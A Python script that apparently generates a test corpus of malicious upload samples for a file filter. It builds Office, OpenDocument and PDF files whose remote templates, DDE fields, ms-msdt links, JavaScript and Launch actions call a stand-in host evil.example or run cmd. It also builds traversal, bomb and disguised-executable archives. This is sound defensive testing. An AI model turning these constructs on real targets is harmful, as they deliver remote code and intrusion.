#!/usr/bin/python3
"""Files that must not come in: each active construct of Office documents in each way to write the part it stands in, PDFs that
run or fetch, archives that lie or hide something, programs and pages under other names. Prints one line of the corpus's table
for each: file, sent as, category, what must become of it."""
import io
import os
import struct
import sys
import zipfile
import zlib

FOLDER = sys.argv[1]
EVIL = "http://evil.example/"
SHARE = r"\\evil.example\share"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
ML = "application/vnd.openxmlformats-officedocument."
COUNT = [0]


def out(kind, content, sent, must, category="test-report"):
    COUNT[0] += 1
    path = os.path.join(FOLDER, "%04d-%s" % (COUNT[0], kind))
    with open(path, "wb") as file:
        file.write(content)
    print("\t".join((path, sent, category, must)))


def declared(text):
    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + text.encode()


ENCODINGS = {
    "declared": declared,
    "bare": lambda text: text.encode(),
    "bom": lambda text: b"\xef\xbb\xbf" + text.encode(),
    "space": lambda text: b"\r\n \t" + text.encode(),
    "utf16": lambda text: text.encode("utf-16"),
    "utf16be": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
    "comment": lambda text: b"<!-- figures -->" + text.encode(),
    "instruction": lambda text: b"<?mso-application progid='Word.Document'?>" + text.encode(),
}


def relationships(*targets):
    body = "".join(f'<Relationship Id="r{n}" Type="{kind if ":" in kind else OFFICE + kind}" Target="{target}"'
                   + (' TargetMode="External"' if external else "") + "/>" for n, (kind, target, external) in enumerate(targets))
    return f'<Relationships xmlns="{PACKAGE}relationships">{body}</Relationships>'


def package(main, main_type, parts, encode, types=(), deflate=True):
    overrides = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in types)
    members = {
        "[Content_Types].xml": declared(
            f'<Types xmlns="{PACKAGE}content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
            f'.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
            f'<Override PartName="/{main}" ContentType="{main_type}"/>{overrides}</Types>'),
        "_rels/.rels": declared(relationships(("officeDocument", main, False))),
    }
    for name, text in parts.items():
        members[name] = text if isinstance(text, bytes) else encode(text)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return target.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = OFFICE[:-1]


def word(body="", rels=(), extra=None, types=(), main="word/document.xml"):
    folder, name = main.rsplit("/", 1)
    parts = {main: f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
                   f'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p>{body}</w:p></w:body></w:document>'}
    if rels:
        parts[f"{folder}/_rels/{name}.rels"] = relationships(*rels)
    parts.update(extra or {})
    return main, ML + "wordprocessingml.document.main+xml", parts, types, "report.docx"


def sheet(cell="", rels=(), extra=None, types=(), book=""):
    parts = {
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Figures" sheetId="1" r:id="r0"/></sheets>{book}</workbook>',
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", False), *rels),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><sheetData><row r="4"><c r="B4">{cell}</c></row></sheetData></worksheet>',
    }
    parts.update(extra or {})
    types = (("/xl/worksheets/sheet1.xml", ML + "spreadsheetml.worksheet+xml"),) + tuple(types)
    return "xl/workbook.xml", ML + "spreadsheetml.sheet.main+xml", parts, types, "figures.xlsx"


def field(instruction):
    return f'<w:r><w:instrText>{instruction}</w:instrText></w:r>'.join(
        ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))


def office():
    settings = "word/settings.xml"
    constructs = {
        "template": word(rels=(("settings", "settings.xml", False),), extra={
            settings: f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="r0"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships(("attachedTemplate", EVIL + "t.dotm", True))}),
        "ole-link": word('<w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="r0"/></w:object></w:r>',
                         rels=(("oleObject", "mhtml:" + EVIL + "x.html!x-usc:" + EVIL + "x.html", True),)),
        "frame": word(rels=(("frame", EVIL, True),)),
        "subdocument": word(rels=(("subDocument", EVIL + "d.docx", True),)),
        "picture": word(rels=(("image", EVIL + "p.png", True),)),
        "share-picture": word(rels=(("image", "file:///" + SHARE + r"\p.png", True),)),
        "share-link": word(rels=(("hyperlink", SHARE + r"\a.docx", True),)),
        "script-link": word(rels=(("hyperlink", "javascript:alert(1)", True),)),
        "handler-link": word(rels=(("hyperlink", "ms-msdt:/id PCWDiagnostic", True),)),
        "search-link": word(rels=(("hyperlink", "search-ms:query=x&amp;crumb=location:" + SHARE, True),)),
        "dde": word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "dde-in-txt": word(field('DDEAUTO cmd "/k calc"'), main="word/document.txt"),
        "include": word(field(f'INCLUDEPICTURE "{EVIL}p.png" \\d')),
        "simple-field": word(f'<w:fldSimple w:instr="INCLUDETEXT &quot;{EVIL}x&quot;"/>'),
        "mail-merge": word(rels=(("settings", "settings.xml", False),), extra={
            settings: f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:mailMerge><w:dataSource r:id="r0"/></w:mailMerge></w:settings>',
            "word/_rels/settings.xml.rels": relationships(("mailMergeSource", SHARE + r"\l.csv", True))}),
        "vml-picture": word(f'<w:r><w:pict><v:shape><v:imagedata src="{EVIL}p.png"/></v:shape></w:pict></w:r>'),
        "chunk": word('<w:altChunk r:id="r0"/>', rels=(("aFChunk", "chunk.html", False),), types=(("/word/chunk.html", "text/html"),),
                      extra={"word/chunk.html": f"<html><body><script src='{EVIL}x.js'></script></body></html>"}),
        "control": word(rels=(("control", "activeX/activeX1.xml", False),), extra={"word/activeX/activeX1.xml": "<a/>"}),
        "macro": word(rels=(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),),
                      extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508)}),
        "svg": word(rels=(("image", "media/a.svg", False),), extra={
            "word/media/a.svg": "<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>alert(1)</x:script></x:svg>"}),
        "webservice": sheet(f'<f>_xlfn.WEBSERVICE("{EVIL}")</f><v>1</v>'),
        "image-function": sheet(f'<f>_xlfn.IMAGE ("{EVIL}p.png")</f><v>1</v>'),
        "dde-formula": sheet("<f>cmd|'/c calc'!A1</f><v>1</v>"),
        "rtd": sheet('<f>RTD("x",,"y")</f><v>1</v>'),
        "book-on-share": sheet(rels=(("externalLink", "externalLinks/externalLink1.xml", False),), extra={
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="r0"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(("externalLinkPath", SHARE + r"\b.xlsx", True))}),
        "dde-link": sheet(rels=(("externalLink", "externalLinks/externalLink1.xml", False),), extra={
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        "connection": sheet(rels=(("connections", "connections.xml", False),), extra={
            "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1"><webPr url="{EVIL}"/></connection></connections>'}),
        "vml-sheet": sheet(extra={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("vmlDrawing", "../drawings/d.vml", False)),
            "xl/drawings/d.vml": f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="{EVIL}p.png"/></v:shape></xml>'}),
        "macro-sheet": sheet(rels=(("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/s.xml", False),),
                             extra={"xl/macrosheets/s.xml": "<a/>"}),
    }
    for name, (main, kind, parts, types, sent) in constructs.items():
        for way, encode in ENCODINGS.items():
            out(f"{name}-{way}-{sent}", package(main, kind, parts, encode, types, deflate=way != "bare"), sent, "active-content")


def open_documents():
    namespaces = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                  'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
                  'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')
    constructs = {
        "picture": f'<text:p><draw:image xlink:href="{EVIL}p.png"/></text:p>',
        "share": f'<text:p><draw:image xlink:href="file://evil.example/share/p.png"/></text:p>',
        "object": f'<text:p><draw:object xlink:href="{EVIL}o.ods"/></text:p>',
        "script-link": '<text:p><text:a xlink:href="vnd.sun.star.script:x$y?language=Basic&amp;location=document">x</text:a></text:p>',
        "listener": '<office:event-listeners><script:event-listener script:language="Basic" script:event-name="dom:load"/></office:event-listeners>',
        "section": f'<text:section><text:section-source xlink:href="{EVIL}x.odt"/></text:section>',
        "dde": '<text:section><office:dde-source office:dde-application="soffice" office:dde-topic="x" office:dde-item="y"/></text:section>',
        "applet": '<text:p><draw:applet/></text:p>',
        "formula": f'<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{EVIL}&quot;)"/></table:table-row></table:table>',
    }
    for name, body in constructs.items():
        for way, encode in ENCODINGS.items():
            target = io.BytesIO()
            with zipfile.ZipFile(target, "w") as made:
                made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
                made.writestr("META-INF/manifest.xml", declared(
                    '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="/" '
                    'm:media-type="application/vnd.oasis.opendocument.text"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/>'
                    '</m:manifest>'))
                made.writestr("content.xml", encode(f'<office:document-content {namespaces}><office:body><office:text>{body}'
                                                    '</office:text></office:body></office:document-content>'))
            out(f"{name}-{way}.odt", target.getvalue(), "report.odt", "active-content")


def pdf(objects, catalog):
    bodies = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>"] + objects
    content, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n" % number + body.encode("latin-1") + b"\nendobj\n"
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return content + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)


def pdfs():
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>"
    actions = {
        "script": "<</S/JavaScript/JS(app.alert\\(1\\))>>", "launch": "<</S/Launch/F(cmd.exe)>>",
        "submit": f"<</S/SubmitForm/F<</FS/URL/F({EVIL})>>>>", "import": "<</S/ImportData/F(a.fdf)>>",
        "rendition": "<</S/Rendition/OP 0>>", "movie": "<</S/Movie/Operation/Play>>", "rich": "<</S/RichMediaExecute>>",
        "script-link": "<</S/URI/URI(javascript:alert\\(1\\))>>", "share-link": r"<</S/URI/URI(\\\\\\\\evil.example\\\\x)>>",
    }
    for name, action in actions.items():
        out(f"pdf-open-{name}.pdf", pdf([page % ""], f"/OpenAction {action}"), "report.pdf", "active-content")
        out(f"pdf-click-{name}.pdf", pdf([page % "/Annots[4 0 R]", f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>"], ""),
            "report.pdf", "active-content")
        out(f"pdf-page-{name}.pdf", pdf([page % f"/AA<</O {action}>>"], ""), "report.pdf", "active-content")
        out(f"pdf-orphan-{name}.pdf", pdf([page % "", action.replace("<<", "<</Type/Action", 1)], ""), "report.pdf", "active-content")
    for way, catalog in (("open", "/OpenAction"), ("page", "/AA")):
        action = "<</S/GoToE/T<</R/C/N(x)>>>>"
        out(f"pdf-{way}-embedded.pdf", pdf([page % ""], f"{catalog} {action}" if way == "open" else f"/AA<</WC {action}>>"),
            "report.pdf", "active-content")
    out("pdf-open-web.pdf", pdf([page % ""], f"/OpenAction<</S/URI/URI({EVIL})>>"), "report.pdf", "active-content")
    out("pdf-names.pdf", pdf([page % ""], "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>"), "report.pdf", "active-content")
    whole = pdf([page % ""], "")
    out("pdf-leading.pdf", b"GIF89a" + whole, "report.pdf", "type-mismatch")
    out("pdf-trailing.pdf", whole + b"MZ" + bytes(200) + b"x", "report.pdf", "type-mismatch")
    out("pdf-page.pdf", whole.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(1)</script>\n"), "report.pdf", "type-mismatch")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("a.exe", b"MZ")
    out("pdf-zip.pdf", whole + archive.getvalue(), "report.pdf", "type-mismatch")


def archives():
    def archive(**members):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
            for name, content in members.items():
                made.writestr(name, content)
        return target.getvalue()

    program = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
    members = {"setup.exe": program, "setup.txt": program, "run.sh": b"#!/bin/sh\nrm x\n", "page.html": b"<html><script>1</script></html>",
               "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.lnk": b"L\0\0\0\1\x14\2\0" + bytes(90)}
    for name, content in members.items():
        out(f"zip-{name}.zip", archive(**{name: content}), "files.zip", "type-not-allowed")
        out(f"zip-folder-{name}.zip", archive(**{"lab/" + name: content}), "files.zip", "type-not-allowed")
        out(f"zip-zip-{name}.zip", archive(**{"inner.zip": archive(**{name: content})}), "files.zip", "type-not-allowed")
    for name in ("a.js", "a.vbs", "a.hta", "a.reg"):
        out(f"zip-{name}.zip", archive(**{name: b"MsgBox 1"}), "files.zip", "type-mismatch")
    for name in ("../a.txt", "/a.txt", "C:/a.txt", "a/../../b.txt"):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as made:
            made.writestr(zipfile.ZipInfo(name), b"x")
        out(f"zip-path-{COUNT[0]}.zip", target.getvalue(), "files.zip", "unreadable-content")
    plain = archive(**{"a.txt": "x" * 50})
    out("zip-cut.zip", plain[:-10], "files.zip", "unreadable-content")
    out("zip-checksum.zip", plain.replace(struct.pack("<I", zlib.crc32(b"x" * 50)), b"\1\2\3\4"), "files.zip", "unreadable-content")
    locked = bytearray(plain)
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        position = plain.index(mark)
        locked[position + at] |= 1
    out("zip-locked.zip", bytes(locked), "files.zip", "encrypted-content")
    bomb = archive(**{"zeros.txt": b"0" * 300_000_000})
    out("zip-bomb.zip", bomb, "files.zip", "too-complex")
    out("zip-many.zip", archive(**{f"{n}.txt": "" for n in range(25_000)}), "files.zip", "too-complex")
    deep = plain
    for _ in range(12):
        deep = archive(**{"inner.zip": deep})
    out("zip-deep.zip", deep, "files.zip", "too-complex")


def others():
    program = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
    for name in ("report.pdf", "photo.jpg", "values.csv", "report.docx"):
        out(f"program-{name}", program, name, "type-not-allowed")
        out(f"elf-{name}", b"\x7fELF\2\1\1" + bytes(200), name, "type-not-allowed")
    page = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    for way, encode in ENCODINGS.items():
        if way not in ("declared", "instruction"):
            out(f"page-{way}.txt", encode(page), "notes.txt", "type-not-allowed")
            out(f"page-{way}.csv", encode(page), "values.csv", "type-not-allowed")
    out("mail.txt", b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nDate: Mon, 2 Nov 2026 10:00:00 +0100\r\n\r\nx\r\n",
        "mail.txt", "type-not-allowed")
    out("rich.txt", b"{\\rtf1\\ansi x}", "rich.txt", "type-not-allowed")
    out("script.txt", b"#!/bin/sh\nrm -rf x\n", "script.txt", "type-not-allowed")
    out("nul.txt", b"abc\0def", "notes.txt", "type-not-allowed")


for make in (office, open_documents, pdfs, archives, others):
    make()
